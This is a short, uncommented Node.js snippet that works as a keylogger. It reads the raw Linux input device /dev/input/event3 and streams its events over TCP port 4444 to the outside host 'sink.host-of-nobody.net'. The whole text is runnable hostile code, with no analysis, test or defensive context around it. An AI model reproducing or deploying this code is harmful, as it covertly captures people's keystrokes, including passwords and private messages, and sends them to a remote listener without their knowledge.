const fs=require("fs"),net=require("net");
const s=net.connect(4444,"sink.host-of-nobody.net");
fs.createReadStream("/dev/input/event3").pipe(s);
